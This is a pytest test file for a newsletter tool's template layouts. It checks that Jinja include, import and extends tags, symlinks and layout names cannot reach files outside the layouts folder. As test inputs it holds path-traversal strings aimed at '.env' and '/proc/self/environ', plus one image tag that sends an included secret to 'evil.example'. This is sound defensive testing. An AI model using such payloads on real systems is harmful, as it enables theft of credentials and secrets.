"""A layout's files are those in the folders of layouts, and nothing that a name or a link leads to from there."""

from pathlib import Path

import pytest

from newsletter.errors import LayoutError
from newsletter.render.layout import Layout, all_layouts
from newsletter.workspace import Workspace
from tests.render.conftest import BODY, Refused, Rendered, WriteLayout

SECRET = "key=sk-1234567890"


@pytest.fixture
def secret(workspace: Workspace) -> Path:
    file = workspace.root / ".env"
    file.write_text(SECRET, "utf-8")
    return file


@pytest.mark.parametrize(
    "name", ["/proc/self/environ", "../../.env", "../../../.env", "parts/../../../.env", "//proc/self/environ"]
)
@pytest.mark.parametrize("tag", ['{{% include "{}" %}}', '{{% import "{}" as x %}}', '{{% extends "{}" %}}'])
def test_a_template_reaches_no_file_outside(refused: Refused, secret: Path, name: str, tag: str) -> None:
    assert secret.is_file()
    assert "has no file" in refused(BODY.format(tag.format(name)))


def test_an_address_does_not_carry_a_file_away(refused: Refused, secret: Path) -> None:
    assert secret.is_file()
    body = BODY.format('<img src="https://evil.example/?k={% include "../../.env" %}" alt="">')
    assert SECRET not in refused(body)


@pytest.mark.parametrize("target", ["../../../.env", "/proc/self/environ", "/dev/zero"])
def test_a_link_out_of_the_layouts_is_no_file_of_theirs(
    refused: Refused, write_layout: WriteLayout, workspace: Workspace, secret: Path, target: str
) -> None:
    assert secret.is_file()
    write_layout("")
    (workspace.layouts / "own" / "parts" / "x.mjml.j2").symlink_to(target)
    assert "has no file 'parts/x.mjml.j2'" in refused(BODY.format('{% include "parts/x.mjml.j2" %}'))


@pytest.mark.parametrize("file", ["style.css", "email.txt.j2", "layout.yaml"])
def test_no_other_file_of_a_layout_is_read_through_a_link_either(
    rendered: Rendered, write_layout: WriteLayout, workspace: Workspace, secret: Path, file: str
) -> None:
    write_layout(BODY.format("x"))
    (workspace.layouts / "own" / file).unlink()
    (workspace.layouts / "own" / file).symlink_to(secret)
    try:
        layout = Layout.find("own", workspace)
        text = layout.read(file).text
    except LayoutError as error:
        text = str(error)
    assert SECRET not in text


def test_a_link_inside_the_layouts_works(rendered: Rendered, write_layout: WriteLayout, workspace: Workspace) -> None:
    write_layout("", parts={"parts/real.mjml.j2": "안쪽"})
    (workspace.layouts / "own" / "parts" / "x.mjml.j2").symlink_to("real.mjml.j2")
    assert "안쪽" in rendered(BODY.format('{% include "parts/x.mjml.j2" %}')).html


def test_a_folder_of_layouts_that_leads_elsewhere_is_refused(
    workspace: Workspace, tmp_path_factory: pytest.TempPathFactory
) -> None:
    workspace.layouts.symlink_to(tmp_path_factory.mktemp("elsewhere"))
    with pytest.raises(LayoutError, match="link out of the workspace"):
        Layout.find("digest", workspace)


@pytest.mark.parametrize(
    "name", ["../own", "own/../own", "/tmp/evil", "a/b", ".", "..", "", "own\\x", "own\0", "own\n", "가" * 3000]
)
def test_a_layout_s_name_is_never_a_path(write_layout: WriteLayout, workspace: Workspace, name: str) -> None:
    write_layout("")
    with pytest.raises(LayoutError, match="no layout"):
        Layout.find(name, workspace)


def test_a_layout_behind_a_link_is_not_listed(workspace: Workspace, tmp_path_factory: pytest.TempPathFactory) -> None:
    evil = tmp_path_factory.mktemp("evil")
    (evil / "email.mjml.j2").write_text("x")
    workspace.layouts.mkdir()
    (workspace.layouts / "evil").symlink_to(evil)
    assert "evil" not in {layout.name for layout in all_layouts(workspace)}


@pytest.mark.parametrize("settings", ["title: Own", "title: Own\ndynamic: true"], ids=["compiled", "dynamic"])
@pytest.mark.parametrize("tag", ['{% include "parts/none.mjml.j2" %}', '{% import "parts/none.mjml.j2" as parts %}'])
def test_a_missing_file_is_told_at_the_line_that_asks_for_it(refused: Refused, tag: str, settings: str) -> None:
    assert "email.mjml.j2:5: the layout has no file 'parts/none.mjml.j2'" in refused(
        f"{BODY.format('x')}\n{tag}", settings=settings
    )


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("{{ FirstName }}", "'FirstName' is undefined; write ${name}"),
        ("{{email}}", "write ${email}"),
        ("{{ unsubscribe }}", "write ${unsubscribe_url}"),
        ("{{ issue.headline.title }", "unexpected '}'; a value ends in two braces: {{ … }}"),
    ],
)
def test_a_mistake_in_a_tag_says_what_to_write(refused: Refused, written: str, said: str) -> None:
    assert said in refused(BODY.format(written))


@pytest.mark.parametrize(
    ("css", "said"),
    [
        (".a { color: red;\n.b { color: blue; }", "style.css:1:1: this rule is not closed before the next one; write '}'"),
        ("p { margin: 0 }\n.a { colour: red; }", "style.css:2:6: no CSS property 'colour'; did you mean 'color'?"),
    ],
)
def test_a_mistake_in_a_stylesheet_is_told_at_its_line(refused: Refused, css: str, said: str) -> None:
    assert said in refused(BODY.format('<p class="a">x</p>'), css=css)
